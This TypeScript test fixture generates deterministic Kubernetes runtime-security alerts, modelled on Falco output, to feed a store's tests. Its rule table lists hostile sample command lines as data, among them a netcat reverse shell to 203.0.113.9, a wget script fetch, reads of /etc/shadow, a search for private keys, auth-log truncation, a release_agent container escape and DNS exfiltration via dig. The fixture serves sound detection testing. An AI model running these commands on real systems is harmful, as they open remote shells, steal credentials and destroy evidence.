// Alerts as they come from real clusters, made on demand from their number: the same number gives the same alert.
// Used by the store of these tests and by those who post alerts.
import type { PRIORITIES } from '../../../src/detect/priority.ts'
import { timeOf } from '../../../src/serve/api/instant.ts'

/** What an alert is made of. */
export interface Made {
  readonly rule: string
  readonly priority: string
  readonly source: string
  readonly hostname: string
  readonly tags: readonly string[]
  readonly output: string
  readonly fields: Readonly<Record<string, string | number>>
}

interface Kind {
  readonly rule: string
  readonly priority: (typeof PRIORITIES)[number]
  readonly tags: readonly string[]
  readonly command: string
  readonly program: string
}

const KINDS: readonly Kind[] = [
  [
    'Contact K8S API Server From Container',
    'Notice',
    'network k8s mitre_discovery',
    'curl -sk https://10.96.0.1/api',
    'curl',
  ],
  ['Terminal shell in container', 'Notice', 'container shell mitre_execution', 'bash -il', 'bash'],
  [
    'Read sensitive file untrusted',
    'Warning',
    'filesystem mitre_credential_access',
    'cat /etc/shadow',
    'cat',
  ],
  [
    'Redirect STDOUT/STDIN to Network Connection in Container',
    'Notice',
    'network process mitre_execution',
    'sh -i',
    'sh',
  ],
  [
    'Drop and execute new binary in container',
    'Critical',
    'container process mitre_persistence',
    '/tmp/.x/kworkerds -c pool.cfg',
    'kworkerds',
  ],
  ['Packet socket created in container', 'Notice', 'network mitre_discovery', 'tcpdump -i any', 'tcpdump'],
  [
    'Search Private Keys or Passwords',
    'Warning',
    'filesystem mitre_credential_access',
    'grep -r "BEGIN RSA" /home',
    'grep',
  ],
  [
    'Clear Log Activities',
    'Warning',
    'filesystem mitre_defense_evasion',
    'truncate -s0 /var/log/auth.log',
    'truncate',
  ],
  [
    'Debugfs Launched in Privileged Container',
    'Warning',
    'container mitre_privilege_escalation',
    'debugfs -w /dev/sda1',
    'debugfs',
  ],
  [
    'Detect release_agent File Container Escapes',
    'Critical',
    'container mitre_privilege_escalation',
    "sh -c 'echo /cmd > /release_agent'",
    'sh',
  ],
  [
    'Fileless execution via memfd_create',
    'Critical',
    'process mitre_defense_evasion',
    'memfd:python3',
    'python3',
  ],
  ['PTRACE attached to process', 'Warning', 'process mitre_privilege_escalation', 'gdb -p 4211', 'gdb'],
  ['Remove Bulk Data from Disk', 'Warning', 'filesystem mitre_impact', 'shred -u données_été.csv', 'shred'],
  [
    'Create Symlink Over Sensitive Files',
    'Warning',
    'filesystem mitre_credential_access',
    'ln -s /etc/passwd x',
    'ln',
  ],
  ['Run shell untrusted', 'Notice', 'shell mitre_execution', "sh -c 'wget 1.2.3.4/实例.sh'", 'sh'],
  ['System user interactive', 'Informational', 'users mitre_execution', 'login', 'login'],
  [
    'Netcat Remote Code Execution in Container',
    'Error',
    'network mitre_execution',
    'nc -e /bin/sh 203.0.113.9 4444',
    'nc',
  ],
  ['Linux Kernel Module Injection Detected', 'Alert', 'process mitre_persistence', 'insmod rk.ko', 'insmod'],
  ['Backdoored library loaded into SSHD', 'Emergency', 'process cve', 'sshd: [accepted]', 'sshd'],
  [
    'Unexpected UDP Traffic',
    'Debug',
    'network mitre_exfiltration',
    'dig @8.8.8.8 aGVsbG8.example.com',
    'dig',
  ],
].map(([rule = '', priority, tags = '', command = '', program = '']) => ({
  rule,
  priority: priority as Kind['priority'],
  tags: tags.split(' '),
  command,
  program,
}))

/** Rules, hosts and namespaces there are. */
export const RULES: readonly string[] = KINDS.map(({ rule }) => rule)
export const HOSTS: readonly string[] = Array.from(
  { length: 24 },
  (_, at) => `node-${String(at + 1).padStart(2, '0')}.eu-west`,
)
export const NAMESPACES: readonly string[] = [
  'shop',
  'payments',
  'kube-system',
  'ingress',
  'ci',
  'data',
  'monitoring',
  'staging',
]

/** When the newest of them happened: nanoseconds since 1970. */
export const NEWEST = 1_795_291_200_123_456_789n
const MONTH = 30n * 86_400n * 1_000_000_000n

/** A number from 0 to below 1 that follows from `seed`. */
function dice(seed: number): number {
  let value = Math.imul(seed ^ 0x9e3779b9, 0x85ebca6b)
  value = Math.imul(value ^ (value >>> 13), 0xc2b2ae35)
  return ((value ^ (value >>> 16)) >>> 0) / 0x1_0000_0000
}

/** Places in the lists for alert `at`, 0 the newest: frequent ones first. */
export function choices(at: number): {
  readonly kind: number
  readonly host: number
  readonly namespace: number
} {
  return {
    kind: Math.floor(KINDS.length * dice(at * 3 + 1) ** 2.6),
    host: Math.floor(HOSTS.length * dice(at * 3 + 2) ** 1.5),
    namespace: Math.floor(NAMESPACES.length * dice(at * 3 + 3) ** 2),
  }
}

/** Priority of the rule at that place. */
export function priorityAt(kind: number): string {
  return KINDS[kind]?.priority ?? 'Debug'
}

/** Tags of the rule at that place. */
export function tagsAt(kind: number): readonly string[] {
  return KINDS[kind]?.tags ?? []
}

/** When alert `at` of `count` happened: denser by day, a burst now and then. */
export function instantAt(at: number, count: number): bigint {
  const share = count === 1 ? 0 : at / count
  const wave = share + 0.004 * Math.sin(share * 30 * 2 * Math.PI) + 0.003 * Math.sin(share * 7 * 2 * Math.PI)
  return NEWEST - BigInt(Math.round(Math.max(0, wave) * Number(MONTH / 1000n))) * 1000n
}

/** The UUID of alert `at`. */
export function idAt(at: number): string {
  return `00000000-0000-4000-8000-${at.toString(16).padStart(12, '0')}`
}

/** The canonical line of alert `at` of `count`. */
export function lineAt(at: number, count: number): string {
  const { kind: place, host, namespace } = choices(at)
  const kind = KINDS[place]
  if (kind === undefined) throw new RangeError(`no kind ${place}`)
  const instant = instantAt(at, count)
  const [hostname, ns] = [HOSTS[host] ?? '', NAMESPACES[namespace] ?? '']
  const pod = `${['web', 'api', 'worker', 'cron'][at % 4]}-${(at % 7919).toString(36).padStart(4, '0')}`
  const pid = 1000 + (at % 30_000)
  const user = dice(at + 11) < 0.7 ? 'root' : 'www-data'
  const clock = timeOf(instant).slice(11, -1)
  const words = `Seen by the kernel: ${kind.program} ran | user=${user} command=${kind.command} pod=${pod} ns=${ns} file=/srv/žluťoučký kůň.txt`
  const fields = {
    'container.id': (at * 2654435761).toString(16).slice(0, 12).padStart(12, '0'),
    'container.image.repository': `registry.example/${ns}/${pod.split('-')[0]}`,
    'container.name': pod.split('-')[0],
    'evt.type': 'execve',
    'fd.name': '/etc/shadow',
    'k8s.ns.name': ns,
    'k8s.pod.name': pod,
    'proc.cmdline': kind.command,
    'proc.exepath': `/usr/bin/${kind.program}`,
    'proc.name': kind.program,
    'proc.pid': pid,
    'proc.pname': 'containerd-shim',
    'user.name': user,
    'user.uid': user === 'root' ? 0 : 33,
  }
  const alert = {
    uuid: idAt(at),
    output: `${clock}: ${kind.priority} ${words}`,
    priority: kind.priority,
    rule: kind.rule,
    time: timeOf(instant),
    source: 'syscall',
    hostname,
    tags: kind.tags,
  }
  // By hand: a double does not hold the nanoseconds.
  const exact = `"evt.time":${instant},${JSON.stringify(fields).slice(1)}`
  return `${JSON.stringify(alert).slice(0, -1)},"output_fields":{${exact}}`
}
